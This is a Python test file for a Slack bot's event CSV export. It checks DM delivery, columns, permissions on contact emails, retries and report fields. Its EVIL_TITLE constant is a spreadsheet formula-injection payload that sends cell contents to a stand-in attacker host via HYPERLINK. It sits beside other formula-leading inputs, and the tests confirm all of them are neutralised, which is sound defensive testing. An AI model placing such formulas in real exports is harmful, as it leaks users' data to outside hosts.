"""`/event export`: the CSV arrives in the requester's DM through Slack's file upload, and is read
back with the csv module: every field, RSVP counts, formula cells neutralised, and contact emails
of private events only for admins and the event's hosts, as they are at the moment of the export."""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta

from conftest import make_deliverer
from fakeslack import Fault
from messages import export
from schedhelp import add_event
from services import exports
from services.imports import import_entries
from services.listings import read_csv
from services.schedule import queue_due_work
from storage import event_fields as fields
from storage import reports, rsvps
from storage.models import Event, EventHost

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def add(database, now, *, title, created_by="U2", public=True, email=None, starts_in=timedelta(days=3), **extra):
    with database.session() as session:
        event = Event(
            team_id="T0TEST",
            title=title,
            event_type="rally",
            all_day=False,
            starts_at=now + starts_in,
            ends_at=now + starts_in + timedelta(hours=2),
            timezone="America/Denver",
            is_public=public,
            contact_name="Ezzie Dominguez",
            contact_email=email,
            channel_id=extra.pop("channel_id", "C1"),
            created_by=created_by,
            created_at=now,
            updated_at=now,
            **extra,
        )
        session.add(event)
        session.flush()
        return event.id


def seed(database, now) -> dict[str, int]:
    ids = {
        "evil": add(
            database,
            now,
            title=EVIL_TITLE,
            email="ezzie@example.org",
            details="+1 555 0100 -- call us",
            lead_organizations="@everyone\tand\rfriends",
            city="-Denver",
            state="CO",
        ),
        "private": add(
            database, now, title="Roundtable with Sen. Feinstein’s staff", public=False, email="isanchez@chirla.org"
        ),
        "mine": add(database, now, title="My private visit", created_by="U1", public=False, email="sara@example.org"),
        "co-hosted": add(database, now, title="Vigil U1 co-hosts", public=False, email="cohost@example.org"),
        "private channel": add(
            database,
            now,
            title="Planning call",
            channel_id="G1",
            private_channel=True,
            public=False,
            email="g@example.org",
        ),
        "cancelled": add(database, now, title="Cancelled vigil", cancelled_at=now, cancelled_by="U2"),
        "past": add(database, now, title="Last week's rally", starts_in=timedelta(days=-7)),
    }
    with database.session() as session:
        session.add(EventHost(team_id="T0TEST", event_id=ids["co-hosted"], user_id="U1", added_by="U2", created_at=now))
        evil = session.get(Event, ids["evil"])
        for user in ("U1", "U3", "UADMIN"):
            rsvps.set_rsvp(session, evil, user, True, now)
    return ids


def table(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM spreadsheets need for accents and curly quotes
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def exported_to(slack, user: str) -> tuple[dict, list[dict[str, str]]]:
    """The one file the bot shared in `user`'s DM, with the message it came with, read back as rows."""
    [shared] = slack.files_in("D" + user)
    [message] = [m for m in slack.dm(user) if m.get("files")]
    return message, table(shared["bytes"])


def test_export_arrives_in_the_dm_with_every_field_and_neutralised_formulas(bot, slack, database, clock):
    ids = seed(database, clock())
    reply = bot.command("/event", "export", user="U1", channel="C1")
    assert reply.text == export.on_its_way()
    slack.wait_for("files.completeUploadExternal")
    message, rows = exported_to(slack, "U1")
    assert message["files"][0]["name"] == "events-2026-11-21-1.csv" and message["files"][0]["title"] == "Events"

    assert list(rows[0]) == list(export.COLUMNS) and {f.name for f in fields.TEXT_FIELDS} <= set(export.COLUMNS)
    by_id = {int(row["id"]): row for row in rows}
    assert list(by_id) == [
        ids["past"],
        ids["evil"],
        ids["private"],
        ids["mine"],
        ids["co-hosted"],
        ids["cancelled"],
    ]  # soonest first
    evil = by_id[ids["evil"]]
    # Every cell a spreadsheet would run as a formula starts with an apostrophe, and only those.
    assert evil["title"] == "'" + EVIL_TITLE
    assert (evil["details"], evil["lead_organizations"], evil["city"]) == (
        "'+1 555 0100 -- call us",
        "'@everyone\tand\rfriends",
        "'-Denver",
    )
    assert export.restore(evil["title"]) == EVIL_TITLE
    assert (evil["status"], evil["event_type"], evil["going"], evil["is_public"], evil["all_day"]) == (
        "upcoming",
        "Rally or action",
        "3",
        "yes",
        "no",
    )
    assert (evil["start_date"], evil["start_time"], evil["end_time"], evil["timezone"]) == (
        "2026-11-24",
        "08:00",
        "10:00",
        "America/Denver",
    )
    assert (evil["contact_name"], evil["contact_email"], evil["registered_by"], evil["channel"]) == (
        "Ezzie Dominguez",
        "ezzie@example.org",
        "U2",
        "C1",
    )
    assert (by_id[ids["cancelled"]]["status"], by_id[ids["past"]]["status"]) == ("cancelled", "past")
    # A private event's email: not for U1, who neither hosts it nor is an admin; for its hosts, yes.
    assert (by_id[ids["private"]]["contact_email"], by_id[ids["mine"]]["contact_email"]) == ("", "sara@example.org")
    assert by_id[ids["co-hosted"]]["contact_email"] == "cohost@example.org"
    assert "isanchez@chirla.org" not in str(rows) and "g@example.org" not in str(
        rows
    )  # nor the private channel's event
    assert message["text"] == export.comment(6, 1)
    assert "left out: only admins and each event's hosts get them" in message["text"]


def test_one_campaigns_export(bot, slack, database, clock):
    ids = seed(database, clock())
    week = add(database, clock(), title="Vigil of the week", campaign_slug="where-r-the-refugees")
    reply = bot.command("/event", "export #WhereRTheRefugees", user="U1")
    assert (
        reply.text
        == "I'm putting the CSV of the events of National Week of Action: #WhereRTheRefugees together; it will be in our DM in a moment."
    )
    slack.wait_for("files.completeUploadExternal")
    message, rows = exported_to(slack, "U1")
    assert [(int(row["id"]), row["campaign"]) for row in rows] == [(week, "where-r-the-refugees")] and ids[
        "evil"
    ] != week
    assert message["files"][0]["name"] == "events-where-r-the-refugees-2026-11-21-1.csv"
    assert message["files"][0]["title"] == "Events of National Week of Action: #WhereRTheRefugees"
    assert message["text"] == export.comment(1, 0).replace(
        "1 event,", "1 event of National Week of Action: #WhereRTheRefugees,"
    )
    unknown = bot.command("/event", "export spring break", user="U1")
    assert "I don't know the campaign “spring break”" in unknown.text
    assert len(slack.calls_to("files.completeUploadExternal")) == 1


def test_an_admin_gets_every_email_and_the_private_channels_events(bot, slack, database, clock):
    ids = seed(database, clock())
    bot.command("/event", "export", user="UADMIN")
    slack.wait_for("files.completeUploadExternal")
    message, rows = exported_to(slack, "UADMIN")
    by_id = {int(row["id"]): row for row in rows}
    assert len(rows) == 7 and by_id[ids["private channel"]]["title"] == "Planning call"
    assert by_id[ids["private"]]["contact_email"] == "isanchez@chirla.org"
    assert message["text"] == export.comment(7, 0)


def test_who_may_see_an_email_is_decided_when_the_export_is_made(slack, services, database, clock):
    """Asked for as an admin, delivered after a demotion: the file is what the requester may see then."""
    ids = seed(database, clock())
    exports.request(services, "T0TEST", "UADMIN")
    slack.add_user("UADMIN", tz="America/New_York", real_name="Coalition Staff", is_admin=False)
    make_deliverer(slack, services).run_once()
    _, rows = exported_to(slack, "UADMIN")
    by_id = {int(row["id"]): row for row in rows}
    assert by_id[ids["private"]]["contact_email"] == "" and ids["private channel"] not in by_id


def test_an_upload_whose_reply_was_lost_is_not_shared_twice(slack, services, database, clock):
    seed(database, clock())
    exports.request(services, "T0TEST", "U1")
    slack.inject("files.completeUploadExternal", Fault.accepted_then_dropped())
    worker = make_deliverer(slack, services)
    assert worker.run_once()["pending"] == 1  # unknown whether Slack shared it
    clock.advance(minutes=5)
    assert worker.run_once()["sent"] == 1
    assert len(slack.files_in("DU1")) == 1 and len(slack.calls_to("files.completeUploadExternal")) == 1


def test_a_failed_upload_is_retried_and_a_large_export_arrives_whole(slack, services, database, clock):
    now = clock()
    with database.session() as session:
        session.execute(
            Event.__table__.insert(),
            [
                dict(
                    team_id="T0TEST",
                    title=f"Vigil {n}",
                    event_type="prayer_vigil",
                    all_day=False,
                    starts_at=now + timedelta(hours=n),
                    timezone="America/Chicago",
                    is_public=True,
                    created_by="U2",
                    created_at=now,
                    updated_at=now,
                )
                for n in range(1, 1201)
            ],
        )
    exports.request(services, "T0TEST", "U1")
    slack.inject("upload", Fault.error("internal_error", 500))
    worker = make_deliverer(slack, services)
    assert worker.run_once()["pending"] == 1 and slack.files_in("DU1") == []
    clock.advance(minutes=5)
    assert worker.run_once()["sent"] == 1
    _, rows = exported_to(slack, "U1")
    assert [row["title"] for row in rows] == [f"Vigil {n}" for n in range(1, 1201)]  # pages of 500, in order


def report_on(database, event_id: int, user: str, when, **told) -> None:
    with database.session() as session:
        fields_told = dict(turnout=None, press_links=[], official_said=None, photos_url=None, next_step=None) | told
        reports.save_report(session, session.get(Event, event_id), user, when, **fields_told)


def test_the_export_ends_with_each_events_report_neutralised_and_the_import_reads_it_back(
    bot, slack, services, database, clock
):
    """Turnout, press hits and links, what the official said, photos, next step, who reported and
    when (and who changed it last): in columns of their own, formula cells neutralised as every
    other, read back by `organizer-bot import`, which leaves them alone."""
    now = clock()
    ids = seed(database, now)
    report_on(
        database,
        ids["past"],
        "U2",
        now - timedelta(days=6),
        turnout=45,
        official_said="=Rep. Denham's staff promised a meeting",
        press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"],
        next_step="-> town hall in March",
        photos_url="https://photos.example/album/1",
    )
    report_on(
        database,
        ids["past"],
        "U1",
        now - timedelta(days=5),
        turnout=47,
        official_said="=Rep. Denham's staff promised a meeting",
        press_links=["https://news.example/modesto", "https://tv.example/clip?id=7"],
        next_step="-> town hall in March",
        photos_url="https://photos.example/album/1",
    )  # corrected the next day
    report_on(database, ids["evil"], "U2", now, turnout=0, next_step="@everyone call your senator")
    bot.command("/event", "export", user="U1")
    slack.wait_for("files.completeUploadExternal")
    _, rows = exported_to(slack, "U1")

    assert (
        list(rows[0])[-len(export.REPORT_COLUMNS) :]
        == list(export.REPORT_COLUMNS)
        == [
            "turnout",
            "press_hits",
            "press_links",
            "official_said",
            "photos_url",
            "next_step",
            "reported_by",
            "reported_at",
            "report_updated_by",
            "report_updated_at",
        ]
    )
    by_id = {int(row["id"]): row for row in rows}
    past = by_id[ids["past"]]
    assert (past["turnout"], past["press_hits"], past["press_links"]) == (
        "47",
        "2",
        "https://news.example/modesto\nhttps://tv.example/clip?id=7",
    )
    assert (past["official_said"], past["next_step"], past["photos_url"]) == (
        "'=Rep. Denham's staff promised a meeting",
        "'-> town hall in March",
        "https://photos.example/album/1",
    )
    assert (past["reported_by"], past["reported_at"], past["report_updated_by"], past["report_updated_at"]) == (
        "U2",
        "2026-11-15T15:00:00+00:00",
        "U1",
        "2026-11-16T15:00:00+00:00",
    )
    evil = by_id[ids["evil"]]
    assert (evil["turnout"], evil["press_hits"], evil["press_links"], evil["next_step"]) == (
        "0",
        "0",
        "",
        "'@everyone call your senator",
    )
    assert all(by_id[ids["mine"]][column] == "" for column in export.REPORT_COLUMNS)  # no report yet

    # The import reads such a file back and leaves the report's columns alone.
    [shared] = slack.files_in("DU1")
    entries = read_csv(shared["bytes"].decode("utf-8-sig"), default_timezone="America/Chicago", today=now.date())
    read_back = {entry.title: entry for entry in entries}
    assert read_back["Last week's rally"].problems == () and read_back[EVIL_TITLE].problems == ()
    clock.set(now - timedelta(days=8))  # into another workspace, before the past event, so that it imports too
    imported = import_entries(services, "T0OTHER", "U9", entries, skip_unreadable=True)
    assert len(imported.saved) == 5 and [u.entry.title for u in imported.unreadable] == ["Cancelled vigil"]
    with database.read() as session:
        titles = {event.title for event in session.query(Event).filter(Event.team_id == "T0OTHER")}
    assert {EVIL_TITLE, "Last week's rally"} <= titles


def test_export_is_in_the_help(bot):
    assert "/event export" in bot.command("/event", "help").text


def test_a_slow_export_holds_up_no_reminder(slack, services, database, clock):
    """An export takes a posting thread for as long as it takes (here Slack takes 3 s to share the
    file); the reminders (two in each of five channels) go out meanwhile, not after it."""
    seed(database, clock())
    for n in range(10):
        add_event(database, clock(), clock() + timedelta(hours=2), kinds=("1h",), channel=f"C{n % 5}")
    exports.request(services, "T0TEST", "U1")
    slack.set_latency("files.completeUploadExternal", 3.0)
    clock.advance(hours=1)
    queue_due_work(services)
    started = time.monotonic()
    make_deliverer(slack, services).run_once()
    reminders_out = [
        c.at for c in slack.calls if c.method == "chat.postMessage" and "Reminder" in (c.args.get("text") or "")
    ]
    assert len(reminders_out) == 10 and len(slack.files_in("DU1")) == 1
    assert time.monotonic() - started >= 3.0  # the file took its three seconds...
    assert max(reminders_out) - started < 2.0  # ...and no reminder waited for it
